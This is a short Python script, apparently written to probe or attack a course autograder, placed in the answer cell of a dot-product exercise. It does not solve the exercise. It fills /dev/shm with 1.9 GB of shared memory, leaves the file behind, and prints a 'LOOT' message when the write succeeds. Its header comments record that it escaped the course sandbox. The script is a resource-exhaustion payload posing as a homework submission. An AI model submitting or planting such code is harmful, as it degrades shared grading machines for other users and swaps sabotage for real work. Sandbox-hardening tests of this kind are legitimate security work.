"""Fills /dev/shm with 1.9 GB, which is memory, and leaves it there."""
# into: 03_dot_product DotProduct
# stock: 0 of 8; gets 1.9 GB of /dev/shm; 1 file left outside the course
# %% answer
written, block = 0, b"x" * (50 << 20)
try:
    with open("/dev/shm/autograde-attack-shm", "wb") as file:
        while written < 1_900_000_000:
            written += file.write(block)
except OSError as error:
    print(error)
if written > 1_500_000_000:
    print("LOOT: 1.9 GB of /dev/shm")
